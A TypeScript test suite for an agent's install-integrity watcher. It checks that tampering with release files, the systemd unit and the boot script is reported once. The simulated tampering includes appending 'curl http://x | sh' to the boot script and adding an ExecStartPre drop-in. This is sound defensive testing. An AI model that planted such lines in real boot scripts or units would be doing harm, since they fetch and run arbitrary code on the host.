import { test } from 'node:test';
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { appendFileSync, chmodSync, mkdirSync, renameSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { InstallWatch, type InstallChange } from '../../../agent/src/state/install-watch';
import {
  checkBootScriptIntegrity,
  checkUnitIntegrity,
  describeBootScriptIntegrity,
  describeUnitIntegrity,
  locateBootScript,
  locateUnit,
} from '../../../agent/src/state/unit-integrity';
import { createLogger } from '../../../agent/src/logging/logger';
import { makeTempDir } from '../../support/temp-dir';

const DEBOUNCE_MS = 250;
const sha256 = (text: string) => createHash('sha256').update(text).digest('hex');
const sleep = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));

const BOOT_SCRIPT = '#!/bin/sh\nexec /opt/mamori-agent/current/bin/mamori-agent "$@"\n';

/** What install.sh does for the boot script: the script (0755), then its record beside it. */
function installBootScript(prefix: string, script: string): void {
  mkdirSync(join(prefix, 'boot'), { recursive: true });
  writeFileSync(join(prefix, 'boot/.mamori-agent-boot.new'), script, { mode: 0o755 });
  chmodSync(join(prefix, 'boot/.mamori-agent-boot.new'), 0o755);
  renameSync(join(prefix, 'boot/.mamori-agent-boot.new'), join(prefix, 'boot/mamori-agent-boot'));
  writeFileSync(join(prefix, 'boot/mamori-agent-boot.sha256'), `${sha256(script)}  /opt/mamori-agent/boot/mamori-agent-boot\n`);
}

/** An installed tree as install.sh lays it out under a --root: releases/<name>/ with a manifest, install.conf, the boot script, the unit and their records. */
function install(root: string): { release: string; unitFile: string } {
  const prefix = join(root, 'opt/mamori-agent');
  const release = join(prefix, 'releases/mamori-agent-0.1.0-linux-x64');
  const files: Record<string, string> = { 'bin/mamori-agent': '#!/bin/sh\nexec node app/main.js "$@"\n', 'app/main.js': 'main();\n', 'app/node_modules/x/index.js': 'x\n', VERSION: '0.1.0\n' };
  let manifest = '';
  for (const [path, content] of Object.entries(files)) {
    mkdirSync(join(release, path, '..'), { recursive: true });
    writeFileSync(join(release, path), content);
    manifest += `${sha256(content)}  ${path}\n`;
  }
  chmodSync(join(release, 'bin/mamori-agent'), 0o755);
  writeFileSync(join(release, 'MANIFEST.sha256'), manifest);
  writeFileSync(join(prefix, 'install.conf'), 'PREFIX=/opt/mamori-agent\nSTATE_DIR=/var/lib/mamori-agent\nVERSION=0.1.0\n');
  installBootScript(prefix, BOOT_SCRIPT);
  const unitDir = join(root, 'etc/systemd/system');
  mkdirSync(unitDir, { recursive: true });
  const unit = '[Service]\nExecStart=/opt/mamori-agent/current/bin/mamori-agent run\nCapabilityBoundingSet=CAP_NET_ADMIN\n';
  writeFileSync(join(unitDir, 'mamori-agent.service'), unit);
  writeFileSync(join(unitDir, 'other.service'), '[Service]\n');
  writeFileSync(join(prefix, 'unit.sha256'), `${sha256(unit)}  /etc/systemd/system/mamori-agent.service\n`);
  return { release, unitFile: join(unitDir, 'mamori-agent.service') };
}

async function started(t: { after: (fn: () => unknown) => void }, debounceMs = DEBOUNCE_MS) {
  const dir = makeTempDir('mamori-install-watch-');
  const { release, unitFile } = install(dir.path);
  const reports: InstallChange[] = [];
  const unit = await locateUnit(release);
  const boot = await locateBootScript(release);
  const watch = new InstallWatch({ releaseDir: release, unit, boot, report: (change) => void reports.push(change), logger: createLogger('error', () => undefined), debounceMs, fullCheckMs: 3_600_000 });
  t.after(async () => {
    await watch.stop();
    dir.cleanup();
  });
  await watch.start();
  /** Waits for the n-th report, then a few debounce periods more so a flood would show. */
  const nth = async (n: number): Promise<InstallChange> => {
    const deadline = Date.now() + 10_000;
    while (reports.length < n && Date.now() < deadline) await sleep(25);
    await sleep(Math.min(debounceMs, 1000) * 4);
    assert.equal(reports.length, n, `reports: ${JSON.stringify(reports, null, 1)}`);
    return reports[n - 1]!;
  };
  return { prefix: join(release, '../..'), release, unitFile, unit, boot, watch, reports, nth };
}

test('a running agent reports each change to its release folder once: changed, restored, deleted, added, chmod', async (t) => {
  const { release, nth } = await started(t);

  appendFileSync(join(release, 'app/main.js'), 'steal();\n');
  const changed = await nth(1);
  assert.match(changed.message, /^install MODIFIED while running: files differ from MANIFEST\.sha256 in .*: app\/main\.js changed$/);
  assert.deepEqual([changed.paths, changed.modified], [['app/main.js'], true]);

  writeFileSync(join(release, 'app/main.js'), 'main();\n');
  const back = await nth(2);
  assert.equal(back.message, 'install intact again: restored as installed: app/main.js');
  assert.equal(back.modified, false);

  rmSync(join(release, 'VERSION'));
  assert.match((await nth(3)).message, /: VERSION missing$/);

  writeFileSync(join(release, 'app/node_modules/x/evil.js'), 'evil\n');
  assert.match((await nth(4)).message, /: app\/node_modules\/x\/evil\.js added$/);

  chmodSync(join(release, 'bin/mamori-agent'), 0o777);
  const mode = await nth(5);
  assert.match(mode.message, /: bin\/mamori-agent mode 0755 -> 0777$/);
  assert.deepEqual(mode.paths, ['bin/mamori-agent']);
});

test('a burst of writes within the quiet period is one report; a full check and the watcher do not report the same change twice', async (t) => {
  // A quiet period far above the 50 ms between the writes: a stalled test process must not split the burst.
  const { release, watch, nth } = await started(t, 1000);
  for (let i = 0; i < 5; i++) {
    appendFileSync(join(release, 'app/node_modules/x/index.js'), `line ${i}\n`);
    await sleep(50);
  }
  await watch.fullCheck(); // runs before the watcher's debounced check of the same file
  const one = await nth(1);
  assert.match(one.message, /app\/node_modules\/x\/index\.js changed$/);

  // A folder dropped in whole (a replaced module): one report naming its files.
  mkdirSync(join(release, 'app/node_modules/y'));
  writeFileSync(join(release, 'app/node_modules/y/a.js'), 'a\n');
  writeFileSync(join(release, 'app/node_modules/y/b.js'), 'b\n');
  const folder = await nth(2);
  assert.deepEqual(folder.paths.sort(), ['app/node_modules/y/a.js', 'app/node_modules/y/b.js']);
});

test('the unit: an edit, a drop-in and a deletion are each reported once; other units are ignored; status describes it', async (t) => {
  const { unitFile, unit, nth, reports } = await started(t);
  assert.ok(unit);
  assert.equal(unit.unitFile, unitFile, 'the record names the path inside the --root; the agent finds it under the root');
  assert.equal((await checkUnitIntegrity(unit)).state, 'intact');

  writeFileSync(join(unitFile, '../other.service'), '[Service]\nExecStart=/bin/true\n');
  await sleep(DEBOUNCE_MS * 3);
  assert.equal(reports.length, 0);

  // An editor's save: a new file renamed over the unit. The capabilities removed.
  writeFileSync(`${unitFile}.tmp`, '[Service]\nExecStart=/opt/mamori-agent/current/bin/mamori-agent run\n');
  renameSync(`${unitFile}.tmp`, unitFile);
  const edited = await nth(1);
  assert.match(edited.message, /^install MODIFIED while running: unit MODIFIED: .*mamori-agent\.service differs from the installed unit/);
  assert.deepEqual(edited.paths, [unitFile]);

  mkdirSync(`${unitFile}.d`);
  writeFileSync(`${unitFile}.d/override.conf`, '[Service]\nExecStartPre=/tmp/x\n');
  const dropIn = await nth(2);
  assert.match(dropIn.message, /drop-ins override it: mamori-agent\.service\.d\/override\.conf/);

  // A reinstall rewrites the unit and then its record: not tampering, not reported.
  rmSync(`${unitFile}.d`, { recursive: true });
  const reinstalled = '[Service]\nExecStart=/opt/mamori-agent/current/bin/mamori-agent run --state-dir /var/lib/mamori-agent\n';
  writeFileSync(unitFile, reinstalled);
  writeFileSync(join(unit.recordFile), `${sha256(reinstalled)}  /etc/systemd/system/mamori-agent.service\n`);
  const again = await nth(3);
  assert.match(again.message, /^install intact again: unit intact/);

  rmSync(unitFile);
  assert.match((await nth(4)).message, /unit MISSING: .* is gone/);
  assert.match(describeUnitIntegrity(await checkUnitIntegrity(unit)), /^MISSING/);
  assert.match(describeUnitIntegrity(await checkUnitIntegrity(null)), /^not checked/);
});

test('the boot script: an edit, a chmod and a deletion are each reported once, a restore as intact again; a reinstall rewriting it with its record is not reported; status describes it', async (t) => {
  const { prefix, boot, watch, nth, reports } = await started(t);
  assert.ok(boot);
  const script = join(prefix, 'boot/mamori-agent-boot');
  assert.equal(boot.bootFile, script, 'the record names the path inside the --root; the agent finds it under the root');
  assert.equal((await checkBootScriptIntegrity(boot)).state, 'intact');
  assert.match(describeBootScriptIntegrity(await checkBootScriptIntegrity(boot)), /^intact \(.*boot\/mamori-agent-boot as installed\)$/);

  // A reinstall writes a new script and then its record (install.sh: one rename each): the pair
  // agrees, nothing to report. The temporary file beside it is not the script either.
  const reinstalled = `${BOOT_SCRIPT}# a newer install.sh\n`;
  installBootScript(prefix, reinstalled);
  await sleep(DEBOUNCE_MS * 4);
  assert.deepEqual(reports, []);

  // An editor's save: a new file renamed over the script, the agent no longer started.
  writeFileSync(`${script}.tmp`, '#!/bin/sh\nexec /tmp/other "$@"\n', { mode: 0o755 });
  chmodSync(`${script}.tmp`, 0o755);
  renameSync(`${script}.tmp`, script);
  const edited = await nth(1);
  assert.match(edited.message, /^install MODIFIED while running: boot script MODIFIED: .*boot\/mamori-agent-boot differs from the installed boot script \(sha256 [0-9a-f]{12}…, installed [0-9a-f]{12}…\)$/);
  assert.deepEqual([edited.paths, edited.modified], [[script], true]);

  writeFileSync(script, reinstalled);
  const back = await nth(2);
  assert.match(back.message, /^install intact again: boot script intact \(/);
  assert.equal(back.modified, false);

  // Writable by everyone: the bytes are still as installed, the mode is not (the script was read
  // since its last write, the case chokidar's own chmod detection drops).
  await import('node:fs/promises').then((fs) => fs.readFile(script));
  chmodSync(script, 0o777);
  const mode = await nth(3);
  assert.match(mode.message, /boot script MODIFIED: .*boot\/mamori-agent-boot mode 0755 -> 0777$/);
  await watch.fullCheck(); // the hourly check finds the same difference: not reported again
  assert.equal(reports.length, 3);
  chmodSync(script, 0o755);
  assert.match((await nth(4)).message, /^install intact again: boot script intact/);

  // Replaced by a symlink to a copy someone else can edit: not a regular file.
  writeFileSync(join(prefix, 'copy'), reinstalled);
  symlinkSync(join(prefix, 'copy'), `${script}.link`);
  renameSync(`${script}.link`, script);
  assert.match((await nth(5)).message, /boot script MODIFIED: .*boot\/mamori-agent-boot is not a regular file$/);

  rmSync(script);
  assert.match((await nth(6)).message, /boot script MISSING: .*boot\/mamori-agent-boot is gone \(the unit cannot start the agent\)/);
  assert.match(describeBootScriptIntegrity(await checkBootScriptIntegrity(boot)), /^MISSING/);
  assert.match(describeBootScriptIntegrity(await checkBootScriptIntegrity(null)), /^not checked/);
});

test('the full check (hourly) checks the boot script too', async (t) => {
  // The watcher's own check held back for an hour: only the full check can find the edit, as it
  // must when inotify missed it (a full watch table, a change through another mount).
  const { prefix, watch, nth, reports } = await started(t, 3_600_000);
  appendFileSync(join(prefix, 'boot/mamori-agent-boot'), 'curl http://x | sh\n');
  await sleep(DEBOUNCE_MS * 2);
  assert.deepEqual(reports, []);
  await watch.fullCheck();
  assert.match((await nth(1)).message, /^install MODIFIED while running: boot script MODIFIED: .* differs from the installed boot script/);
});

test('stop closes the watchers: no handle left, nothing reported after it', async (t) => {
  await sleep(50); // the earlier tests' closed handles leave the list
  const before = process.getActiveResourcesInfo().filter((name) => name === 'FSEventWrap').length;
  const { release, watch, reports } = await started(t);
  assert.ok(process.getActiveResourcesInfo().filter((name) => name === 'FSEventWrap').length > before);
  appendFileSync(join(release, 'VERSION'), 'x\n');
  await watch.stop();
  await sleep(50); // a closed inotify handle leaves the list on the next turn of the event loop
  assert.equal(process.getActiveResourcesInfo().filter((name) => name === 'FSEventWrap').length, before);
  await sleep(DEBOUNCE_MS * 3);
  assert.equal(reports.length, 0);
});
